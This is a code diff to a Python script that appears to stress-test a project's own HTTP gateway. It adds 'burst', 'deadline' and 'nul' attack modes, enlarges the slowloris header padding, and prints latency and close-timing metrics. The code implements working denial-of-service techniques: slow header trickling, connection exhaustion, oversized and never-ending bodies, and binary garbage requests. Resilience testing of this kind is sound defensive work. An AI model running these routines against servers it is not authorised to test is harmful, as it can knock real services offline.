@@ -9,14 +9,24 @@ is not one of them.
                   --sources A[,B...] [--conns N]
 
 Attacks:
-  slowloris   N connections that send a request line, then one header byte
-              every 0.5 s, reopened when the server closes them
+  slowloris   N connections that send a request line and 3000 bytes of
+              header (near the largest head the server takes, so that each
+              connection's memory is in use), then one header byte every
+              0.5 s, reopened when the server closes them
   idle        N connections that send nothing, reopened when closed
   bigheaders  requests with 64 KiB of headers, one after another
   bigbody     POSTs that announce and send 8 MiB, and chunked ones that never
               end, one after another
   garbage     invalid methods, paths outside the mount, 8 KiB paths, bytes
               that are not HTTP, and 200 pipelined requests then garbage
+  burst       every second, N concurrent fresh gateway polls from the
+              sources; adds burst_ok=ANSWERED_200_WITHIN_2S/SENT, p50, p99
+  deadline    a request head trickled at 1 byte per 100 ms, on a fresh
+              connection and after a first request on a kept-alive one;
+              adds fresh_ms= and keepalive_ms=, when the server closed each
+              (from the accept or from the end of the first answer)
+  nul         a request line of binary garbage starting with a NUL, then a
+              blank line; adds nul_ms= (when it was answered or closed)
 Prints one line: attack=NAME opened=N closed_by_server=N answers=STATUS:N,...
 """
 import argparse
@@ -101,7 +111,7 @@ def hold(a, target, sources, st, trickle):
             for s, c in list(conns.items()):
                 if now < c[1]:
                     continue
-                msg = (HEAD if c[2] == 0 else b"X-Pad: " if c[2] == 1 else
+                msg = (HEAD if c[2] == 0 else b"X-Pad: " + b"a" * 3000 if c[2] == 1 else
                        b"\r\nX-Pad: " if c[2] % 40 == 0 else b"a")
                 try:
                     s.send(msg)
@@ -162,6 +172,96 @@ def chunked_forever(target, source, st, seconds):
         s.close()
 
 
+POLL = (b"POST /prpc/v1/Health?json HTTP/1.1\r\nHost: agent\r\n"
+        b"Content-Length: 2\r\nConnection: close\r\n\r\n{}")
+
+
+def burst(target, sources, n, st, lat):
+    """n fresh polls at once; each counts when it reads a 200 within 2 s."""
+    sel = selectors.DefaultSelector()
+    t0 = time.monotonic()
+    for i in range(n):
+        try:
+            s = connect(target, sources[i % len(sources)])
+        except OSError:
+            continue
+        st.opened += 1
+        sel.register(s, selectors.EVENT_WRITE, [b"", False])
+    ok = 0
+    while sel.get_map() and time.monotonic() - t0 < 2:
+        for key, ev in sel.select(timeout=0.05):
+            s, c = key.fileobj, key.data
+            try:
+                if not c[1]:
+                    s.send(POLL)
+                    c[1] = True
+                    sel.modify(s, selectors.EVENT_READ, c)
+                    continue
+                data = s.recv(4096)
+            except OSError:
+                data = b""
+            if data:
+                c[0] += data
+                if c[0].startswith(b"HTTP/1.1 200") and b"\r\n\r\n" in c[0]:
+                    ok += 1
+                    lat.append((time.monotonic() - t0) * 1000)
+                    st.answer(c[0])
+                    data = b""
+                else:
+                    continue
+            if not c[0]:
+                st.closed += 1
+            sel.unregister(s)
+            s.close()
+    for key in list(sel.get_map().values()):
+        key.fileobj.close()
+    return ok
+
+
+def trickle_until_closed(s, t0):
+    """1 byte every 100 ms of an endless header; ms from t0 to the close."""
+    s.setblocking(False)
+    msg = HEAD + b"X-Pad: " + b"a" * 600
+    for b in msg:
+        try:
+            if s.recv(4096) == b"":
+                break
+        except BlockingIOError:
+            pass
+        except OSError:
+            break
+        try:
+            s.send(bytes([b]))
+        except OSError:
+            break
+        time.sleep(0.1)
+    return (time.monotonic() - t0) * 1000
+
+
+def deadline_attack(target, source):
+    s = connect(target, source, block=True)
+    fresh = trickle_until_closed(s, time.monotonic())
+    s.close()
+    s = connect(target, source, block=True)
+    s.sendall(b"GET /prpc/v1/Version HTTP/1.1\r\nHost: a\r\n\r\n")
+    first = s.recv(4096)
+    ka = trickle_until_closed(s, time.monotonic()) if first.startswith(b"HTTP/1.1 200") else -1
+    s.close()
+    return fresh, ka
+
+
+def nul(target, source):
+    s = connect(target, source, block=True)
+    t0 = time.monotonic()
+    try:
+        s.sendall(b"\x00\x01\x02 garbage \xff\xfe\r\n\r\n")
+        s.recv(4096)
+    except OSError:
+        pass
+    s.close()
+    return (time.monotonic() - t0) * 1000
+
+
 def main():
     ap = argparse.ArgumentParser()
     ap.add_argument("--target", required=True)
@@ -174,6 +274,7 @@ def main():
     target = (host, int(port))
     sources = a.sources.split(",")
     st = Stats()
+    extra = ""
     if a.attack == "slowloris":
         hold(a, target, sources, st, trickle=True)
     elif a.attack == "idle":
@@ -209,11 +310,28 @@ def main():
             b"POST /prpc/v1/Health?json HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n",
             pipelined + b"\x00\xff garbage \r\n\r\n" * 50,
         ])
+    elif a.attack == "burst":
+        deadline_t = time.monotonic() + a.duration
+        sent = ok = 0
+        lat = []
+        while time.monotonic() < deadline_t:
+            t = time.monotonic()
+            ok += burst(target, sources, a.conns, st, lat)
+            sent += a.conns
+            time.sleep(max(0, 1 - (time.monotonic() - t)))
+        lat.sort()
+        pick = lambda q: lat[min(len(lat) - 1, int(q * len(lat)))] if lat else 0
+        extra = " burst_ok=%d/%d burst_p50=%.0f burst_p99=%.0f" % (ok, sent, pick(0.5), pick(0.99))
+    elif a.attack == "deadline":
+        fresh, ka = deadline_attack(target, sources[0])
+        extra = " fresh_ms=%.0f keepalive_ms=%.0f" % (fresh, ka)
+    elif a.attack == "nul":
+        extra = " nul_ms=%.0f" % nul(target, sources[0])
     else:
         raise SystemExit("unknown attack " + a.attack)
-    print("attack=%s opened=%d closed_by_server=%d answers=%s" % (
+    print("attack=%s opened=%d closed_by_server=%d answers=%s%s" % (
         a.attack, st.opened, st.closed,
-        ",".join("%s:%d" % kv for kv in sorted(st.answers.items())) or "-"))
+        ",".join("%s:%d" % kv for kv in sorted(st.answers.items())) or "-", extra))
 
 
 if __name__ == "__main__":
